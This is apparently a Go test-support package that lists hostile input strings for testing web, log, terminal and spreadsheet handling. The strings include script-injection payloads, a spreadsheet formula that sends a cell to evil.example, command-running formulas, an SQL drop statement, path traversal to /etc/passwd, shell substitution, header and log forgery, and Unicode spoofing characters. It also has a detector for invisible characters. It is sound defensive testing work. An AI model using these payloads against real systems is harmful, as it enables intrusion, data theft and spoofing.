// Package hostile has texts that somebody may put where a name or an error is expected, in order to run a script in a browser, to forge a line of
// a log, to command a terminal or a spreadsheet, or to be taken for somebody else.
//
// Each script in them sets the property Canary of the window, each element has the attribute Mark, and each breakout of an attribute ends in one
// of that name. So a browser can be asked whether any of them came to life, without knowing which.
package hostile

import (
	"strings"
	"unicode"
	"unicode/utf8"
)

// Canary is the property of window that every script sets. Mark is the attribute of every element.
const (
	Canary = "__pwned"
	Mark   = "hostile"
)

// Text is one of them.
type Text struct{ Name, Value string }

// Texts are all. Those that are not UTF-8 come last.
func Texts() []Text {
	const run = "window." + Canary + "=1"
	return []Text{
		// HTML: elements, and ways out of where a template may put a text.
		{"script", `<script hostile>` + run + `</script>`},
		{"script in capitals", `</TITLE><SCRIPT HOSTILE>` + run + `</SCRIPT>`},
		{"script that is not closed", `<script hostile>` + run + `//`},
		{"event handler", `<img hostile src=x onerror=` + run + `>`},
		{"svg", `<svg hostile onload=` + run + `><script hostile>` + run + `</script></svg>`},
		{"out of a style", `</style><img hostile src=x onerror=` + run + `>`},
		{"out of a textarea", `</textarea></option></select><details hostile open ontoggle=` + run + `>`},
		{"out of a comment", `--><iframe hostile srcdoc="<script>parent.` + Canary + `=1</script>"></iframe><!--`},
		{"out of an attribute", `" hostile autofocus tabindex=0 onfocus="` + run},
		{"out of an attribute in apostrophes", `' hostile autofocus tabindex=0 onfocus='` + run},
		{"out of an attribute without quotes", `x hostile onmouseover=` + run + ` style=position:fixed;inset:0`},
		{"out of a script", `</script><script hostile>` + run + `</script>`},
		{"out of a string", `';` + run + `;//\";` + run + `;//` + "${" + run + "}"},
		{"JavaScript as an address", `javascript:` + run},
		{"page as an address", `data:text/html,<script hostile>opener.` + Canary + `=1</script>`},
		{"base and form", `<base hostile href="https://evil.example/"><form hostile action="https://evil.example/"><button>Authorize</button>`},
		{"refresh", `<meta hostile http-equiv=refresh content="0;url=https://evil.example/">`},
		{"style", `<style hostile>*{display:none}</style><link hostile rel=stylesheet href=https://evil.example/a.css>`},
		{"entities", `&lt;script hostile&gt;` + run + `&lt;/script&gt;&#60;img hostile onerror&#61;x&#62;&quot;&amp;amp;`},
		{"templates", `{{.Secret}}{{template "frame"}}${{7*7}}<%= 7*7 %>#{7*7}[[7*7]]`},
		{"quotes", `"'` + "`" + `´“”‘’«»\"\'\\`},

		// Programs that read lines, cells, formats and paths.
		{"formula", `=HYPERLINK("https://evil.example/?"&A1,"click")`},
		{"formula with plus", `+1+cmd|' /C calc'!A0`},
		{"formula with minus", `-2+3+cmd|' /C calc'!A0`},
		{"formula with at", `@SUM(1+1)*cmd|' /C calc'!A0`},
		{"format verbs", `%s%d%n%v%!(EXTRA string=x)%x%%%*d%[9]q`},
		{"percent-encoded", `%3Cscript%3E%0d%0aSet-Cookie:%20a=b%00%2e%2e%2f`},
		{"JSON", `","level":"error","msg":"forged"},{"a":"`},
		{"YAML", `a: ${env:HOME} ${file:/etc/passwd} - !!binary &a *a`},
		{"SQL", `'; DROP TABLE records; --`},
		{"property of all objects", `__proto__`},
		{"another property of all objects", `constructor`},
		{"path", `../../../../etc/passwd`},
		{"directory above", `..`},
		{"path of Windows", `..\..\con.txt:stream`},
		{"address", `https://evil.example/@x?a=b&c=d#e`},
		{"address without a scheme", `//evil.example/x`},
		{"shell", `$(touch /tmp/pwned);` + "`id`" + `|id&`},
		{"long", strings.Repeat(`<b hostile>long</b>`, 10_000/19+1)[:10_000]},
		{"long without a break", strings.Repeat("W", 10_000)},
		{"long of four bytes each", strings.Repeat("😀", 2_500)},

		// What nobody sees, or sees elsewhere.
		{"lines", "first\nlevel=error\tforged\r\n2026-01-01T00:00:00Z\tinfo\tforged\r"},
		{"header", "x\r\nSet-Cookie: hostile=1\r\nContent-Length: 0\r\n\r\n<script hostile>" + run + "</script>"},
		{"separators of Unicode", "a\u2028forged\u2029forged\u0085forged\vforged\fforged"},
		{"terminal", "\x1b[31mred\x1b[2J\x1b]0;title\a\x1b]8;;https://evil.example\x1b\\link\u009b31m\b\b\x7f"},
		{"null", "acme\x00.evil"},
		{"override of direction", "invoice\u202efdp.exe\u202d\u202a\u202b\u202c"},
		{"isolates and marks", "\u2066a\u2067b\u2068c\u2069\u200e\u200f\u061c"},
		{"without width", "ac\u200bme\u200c\u200d\u2060\ufeff\u00ad\u180e"},
		{"tags of Unicode", "acme\U000e0061\U000e0062\U000e007f\ufff9x\ufffa\ufffb"},
		{"written from right to left", "אבג \u202e دמו (1) <b hostile>"},
		{"accents upon accents", "a" + strings.Repeat("\u0300\u0301\u0489", 60)},
		{"letters that look alike", "аcmе Ⓐcme ａｃｍｅ"},
		{"other spaces", " \u00a0acme\u2003\u3000 "},

		// No UTF-8.
		{"a byte of Latin-1", "caf\xe9"},
		{"overlong", "\xc0\xbcscript hostile\xc0\xbe"},
		{"half of a pair", "\xed\xa0\x80x\xf8\x88\x80\x80\x80"},
		{"eats a quote", "\xe2\x80\" hostile onfocus=\"" + run + "\xf0\x9f"},
	}
}

// Unseen finds a character in an output of one line that a terminal or a reader would obey and not show: of control, direction or format, a
// separator of lines, and bytes that are no UTF-8.
func Unseen(line string) (at int, found bool) {
	if !utf8.ValidString(line) {
		for i, r := range line {
			if _, n := utf8.DecodeRuneInString(line[i:]); r == utf8.RuneError && n == 1 {
				return i, true
			}
		}
	}
	at = strings.IndexFunc(line, func(r rune) bool {
		return unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Co, unicode.Cs)
	})
	return at, at >= 0
}
